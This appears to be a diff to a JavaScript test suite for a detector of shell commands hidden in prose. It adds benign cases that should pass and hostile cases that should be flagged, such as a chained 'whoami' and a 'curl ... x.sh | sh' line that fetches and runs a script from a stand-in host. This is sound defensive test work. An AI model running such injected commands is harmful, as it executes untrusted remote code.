@@ -22,6 +22,9 @@ describe("commands that are shown without Markdown", () => {
     "The wheels of the waggon by\ncasting; GCC 4.4 did not",
     'Build it: docker run -v "$(pwd):/srv" node && git log kitchen..$(git rev-parse v1)',
     "A variable such as `%WINDIR%` or `%SystemRoot%` is no command, nor is system() or exec()",
+    "docker compose up -d && docker compose logs -f menu\nThen the oven stops only the log of it, right?",
+    "sudo apt update && sudo apt full-upgrade keeps three of them back. Should I wait or force it now?",
+    "curl -sS 'https://example.org/menu?limit=7' | python3 -m json.tool\nWithout the quotes around it the rest went to the background",
     [...PROSE, "|nano |`git config --global core.editor x`", "|vim |`ls -l`", ...PROSE].join("\n"),
   ])("VAL-15: %s", (text) => {
     expect(rulesOf(text)).toEqual([]);
@@ -40,6 +43,12 @@ describe("commands that are shown without Markdown", () => {
     ["menu\n$(curl http://example.org)", "command.substitution"],
     ["menu\ncurl+http://example.org", "command.newline"],
     [[...PROSE, "| ls -l", ...PROSE].join("\n"), "command.pipe"],
+    // A question hides no proof, and nothing that a value is left for.
+    ["git log && whoami\nThen the oven stops only the log of it, right?", "command.chain"],
+    [
+      "menu; curl http://example.org/x.sh | sh # is this the way to do it, perhaps?",
+      "command.pipe",
+    ],
     // A line that says what is shown below, and what would run all the same.
     ["Then run:\nid", "command.newline"],
     ["192.0.2.7\ncat /srv/menu", "command.newline"],
